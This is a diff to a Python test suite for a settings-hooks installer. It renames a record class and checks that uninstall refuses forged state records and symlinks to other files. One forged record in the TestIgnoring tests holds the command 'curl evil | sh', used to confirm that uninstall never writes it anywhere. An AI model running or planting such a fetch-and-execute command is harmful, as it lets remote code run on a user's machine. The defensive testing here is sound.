@@ -23,7 +23,7 @@ from session_hooks_installer.settings.install import (
     uninstall,
     where,
 )
-from session_hooks_installer.settings.record import Note
+from session_hooks_installer.settings.record import FileRecord
 
 OWN = handlers_for(Scope.LOCAL, Path("/opt/hooks/bin"))
 LOCAL = "/.claude/settings.local.json"
@@ -213,8 +213,8 @@ def test_a_made_up_record_reaches_no_other_file(
     (tmp_path / "empty").mkdir()
     key = str(settings(repo))
     made_up = (
-        Note(key, str(victim), digest("umask 077\n"), ""),
-        Note(key, str(tmp_path / "empty")),
+        FileRecord(key, str(victim), digest("umask 077\n"), ""),
+        FileRecord(key, str(tmp_path / "empty")),
     )
     record.write([str(state)], made_up)
     uninstall(Scope.PROJECT, repo, environ)
@@ -232,7 +232,7 @@ def test_a_made_up_record_changes_nothing_that_settings_say(
     put_in(repo, environ)
     text = settings(repo).read_text()
     key = str(settings(repo))
-    record.write([str(state)], (Note(key, key, digest(text), before),))
+    record.write([str(state)], (FileRecord(key, key, digest(text), before),))
     uninstall(Scope.PROJECT, repo, environ)
     assert json.loads(settings(repo).read_text()) == {"env": {"SAFE": "1"}}
 
@@ -245,7 +245,7 @@ def test_a_link_to_what_is_no_settings_is_refused_whatever_the_record_says(
     settings(repo, "{}").unlink()
     settings(repo).symlink_to(victim)
     for folder in (state, tmp_path / ".git" / "agent-session-hooks"):
-        note = Note(str(victim), str(victim), digest("umask 077\n"), None)
+        note = FileRecord(str(victim), str(victim), digest("umask 077\n"), None)
         record.write([str(folder)], (note,))
     with pytest.raises(RefusedError, match="line 1, column 1"):
         uninstall(Scope.PROJECT, repo, environ)
@@ -531,7 +531,7 @@ class TestIgnoring:
         install(Scope.LOCAL, repo, environ, OWN, gitignore=True)
         assert victim.read_text() == text
         key = str(repo / ".claude" / "settings.local.json")
-        note = Note(key, str(victim), digest(text), "curl evil | sh\n")
+        note = FileRecord(key, str(victim), digest(text), "curl evil | sh\n")
         record.write([str(state)], (note, note._replace(path=str(repo / name))))
         uninstall(Scope.LOCAL, repo, environ)
         assert victim.read_text() == text
@@ -575,7 +575,7 @@ class TestIgnoring:
     ) -> None:
         with pytest.raises(RefusedError, match="no git repository"):
             install(Scope.PROJECT, tmp_path, environ, OWN, gitignore=True)
-        assert put_in(tmp_path, environ, Scope.LOCAL).ignoring == ()
+        assert put_in(tmp_path, environ, Scope.LOCAL).ignore_files == ()
 
 
 def test_the_scopes_that_run_our_programs_are_found(
